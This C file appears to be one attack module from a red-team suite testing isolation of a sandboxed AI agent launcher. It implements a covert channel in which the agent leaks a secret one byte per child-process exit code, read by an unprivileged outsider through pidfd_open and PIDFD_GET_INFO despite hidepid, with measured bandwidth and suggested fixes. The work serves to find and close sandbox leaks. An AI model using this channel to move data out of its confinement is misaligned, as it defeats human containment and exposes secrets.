// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* pidfd_exit_info - the exit status of every agent process, read by any user through pidfs
 * (red team addition). Since Linux 6.15 ioctl(PIDFD_GET_INFO) with PIDFD_INFO_EXIT returns the
 * exit code of a process that has exited and been reaped (and the id of the cgroup it was in),
 * to whoever holds a pidfd on it; pidfd_open(2) needs no permission over the target, and
 * neither does the ioctl (checked here: uid 65534 reads the status of another uid's process).
 * No /proc is involved, so hidepid=invisible does not hide it; the pid to open is found by
 * probing pid numbers below /proc/sys/kernel/ns_last_pid (as covert_ioprio does). The threat
 * model lists the launcher's exit status (8 bits per launch, to the caller of mncctl run); this
 * is every process the agent forks, to every uid: one chosen byte per exit.
 * After its recv the agent ignores SIGCHLD (children are reaped as they exit) and forks one
 * child per canary byte, each blocked on a pipe; at sync "forked" an outsider (uid 65534,
 * outside every agent cgroup) takes a pidfd on every pid of the last 600 handed out. The agent
 * then closes the pipe: child i exits with status canary[i]. At sync "done" the outsider asks
 * each pidfd for PIDFD_INFO_EXIT and, per cgroup id, concatenates the exit codes in pid order.
 * Verifier: the canary in one of those strings.
 * Bandwidth: 8 bits per process exit; fork + exit with SIGCHLD ignored ran 8.4e3 times/s as
 * uid 65534 outside mncctl run on this VM (~6.7e4 bits/s; not measured inside the launcher).
 * Would close it: not hidepid (LEAKED in mode netns-hidepid), and presumably not a PID namespace
 * per agent either (an outsider in the host's namespace names the agent's tasks by global pid;
 * untested). The agent cannot be stopped from choosing its exit codes, so the reader's side has
 * to be closed: an lsm file_ioctl hook refusing PIDFD_GET_INFO on an agent's pidfd to outsiders
 * (lsm backend only), or the kernel restricting PIDFD_INFO_EXIT to callers that may ptrace.
 * Marked ATK_OPEN: listed open in docs/threat-model.md ("Open byte channels"). The positive
 * control (MNC_ATTACKS_CONTROL=1) did not verify it in one run on the host (its strings per cgroup
 * came out binary); every real mode LEAKED. */
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "atk.h"

struct pfd_info {
    uint64_t mask, cgroupid;
    uint32_t pid, tgid, ppid, ruid, rgid, euid, egid, suid, sgid, fsuid, fsgid;
    int32_t exit_code;
    uint32_t coredump_mask, spare1;
    uint64_t extra[8];
};
#define PFD_GET_INFO _IOWR(0xFF, 11, struct pfd_info)
#define PFD_INFO_EXIT (1UL << 3)
#define PFD_INFO_CGROUPID (1UL << 2)
#define WINDOW 600

static int agent(struct atk_ctx *c)
{
    int p[2];
    if (pipe2(p, O_CLOEXEC) < 0) {
        atk_try(c, "pipe", -1);
        return 0;
    }
    signal(SIGCHLD, SIG_IGN); /* children are reaped as they exit */
    size_t n = strlen(c->secret);
    int made = 0;
    for (size_t i = 0; i < n; i++) {
        pid_t k = fork();
        if (k == 0) {
            close(p[1]);
            char b;
            while (read(p[0], &b, 1) < 0 && errno == EINTR)
                ;
            _exit((unsigned char)c->secret[i]);
        }
        if (k > 0)
            made++;
        else
            atk_try(c, "fork", -1);
        usleep(2000); /* pids in order */
    }
    atk_note(c, "forked %d children", made);
    atk_sync(c, "forked");
    close(p[1]); /* each child exits with its byte */
    close(p[0]);
    usleep(300000);
    atk_sync(c, "done");
    return 0;
}

/* ---- the outsider (uid 65534): pidfds on the last WINDOW pids, then their exit codes */
static void outsider(struct atk_ctx *c, int ready, int cmd, int out)
{
    /* mode netns-hidepid: a /proc mounted hidepid=invisible, as atk_as_uid gives its readers */
    if (strcmp(c->mode, "netns-hidepid") == 0 &&
        (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ||
         mount("proc", "/proc", "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, "hidepid=invisible") < 0))
        _exit(104);
    if (setgroups(0, NULL) < 0 || setgid(ATK_NOBODY) < 0 || setuid(ATK_NOBODY) < 0)
        _exit(100);
    FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "re");
    long last = -1;
    if (!f || fscanf(f, "%ld", &last) != 1)
        _exit(101);
    fclose(f);
    static int fds[WINDOW];

    int nf = 0;
    for (long p = last - WINDOW + 1; p <= last; p++) {
        if (p < 2)
            continue;
        int fd = (int)syscall(SYS_pidfd_open, (pid_t)p, 0);
        if (fd >= 0) {
            fds[nf] = fd;
            nf++;
        }
    }
    if (write(ready, "R", 1) != 1)
        _exit(102);
    char b;
    if (read(cmd, &b, 1) != 1)
        _exit(103);
    /* per cgroup id: the exit codes in pid order */
    static uint64_t cg[64];
    static char seq[64][128];
    static int len[64];
    int ncg = 0, withexit = 0;
    for (int i = 0; i < nf; i++) {
        struct pfd_info info;
        memset(&info, 0, sizeof(info));
        info.mask = PFD_INFO_EXIT;
        if (ioctl(fds[i], PFD_GET_INFO, &info) != 0 || !(info.mask & PFD_INFO_EXIT))
            continue;
        withexit++;
        int g = 0;
        while (g < ncg && cg[g] != info.cgroupid)
            g++;
        if (g == ncg && ncg < 64)
            cg[ncg++] = info.cgroupid;
        if (g < ncg && len[g] < 126)
            seq[g][len[g]++] = (char)((info.exit_code >> 8) & 0xff);
    }
    char res[400];
    int k = snprintf(res, sizeof(res), "%d pidfds, %d exited; ", nf, withexit);
    for (int g = 0; g < ncg && k < (int)sizeof(res) - 40; g++) {
        seq[g][len[g]] = 0;
        int printable = 1;
        for (int j = 0; j < len[g]; j++)
            printable &= seq[g][j] >= 0x21 && seq[g][j] < 0x7f;
        k += snprintf(res + k, sizeof(res) - (size_t)k, "cg %llu: %s; ", (unsigned long long)cg[g],
                      printable ? seq[g] : "(binary)");
    }
    (void)atk_write_all(out, res, strlen(res));
    _exit(0);
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "forked") == 0) {
        int r[2], m[2];
        if (pipe2(r, O_CLOEXEC) < 0 || pipe2(m, O_CLOEXEC) < 0)
            return;
        pid_t pid = fork();
        if (pid == 0) {
            close(r[0]);
            close(m[1]);
            outsider(c, r[1], m[0], r[1]);
        }
        close(r[1]);
        close(m[0]);
        c->slot[1] = pid;
        c->fdslot[0] = r[0];
        c->fdslot[1] = m[1];
        char b;
        if (pid < 0 || read(r[0], &b, 1) != 1)
            snprintf(c->notes, sizeof(c->notes), "the outsider did not start");
        return;
    }
    if (strcmp(tag, "done") != 0 || c->slot[1] <= 0)
        return;
    char got[512] = "";
    if (write(c->fdslot[1], "q", 1) == 1) {
        size_t k = 0;
        ssize_t r;
        while (k + 1 < sizeof(got) && (r = read(c->fdslot[0], got + k, sizeof(got) - 1 - k)) > 0)
            k += (size_t)r;
        got[k] = 0;
    }
    waitpid((pid_t)c->slot[1], NULL, 0);
    c->slot[1] = 0;
    close(c->fdslot[0]);
    close(c->fdslot[1]);
    if (strstr(got, c->canary))
        atk_evidence(c,
                     "uid 65534 read the canary from the exit codes of the agent's children "
                     "(pidfd_open + PIDFD_GET_INFO/PIDFD_INFO_EXIT, no /proc): %s",
                     got);
    else {
        size_t l = strlen(c->notes);
        snprintf(c->notes + l, sizeof(c->notes) - l, "%soutsider: %s", l ? "; " : "", got);
    }
}

static void cleanup(struct atk_ctx *c)
{
    if (c->slot[1] > 0) {
        kill((pid_t)c->slot[1], SIGKILL);
        waitpid((pid_t)c->slot[1], NULL, 0);
    }
}

static const struct atk A = {"pidfd_exit_info",
                             "exit codes of the agent's processes, read by any uid with pidfd_open + "
                             "PIDFD_GET_INFO (PIDFD_INFO_EXIT)",
                             ATK_OPEN,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             cleanup};
ATK_MAIN(A)
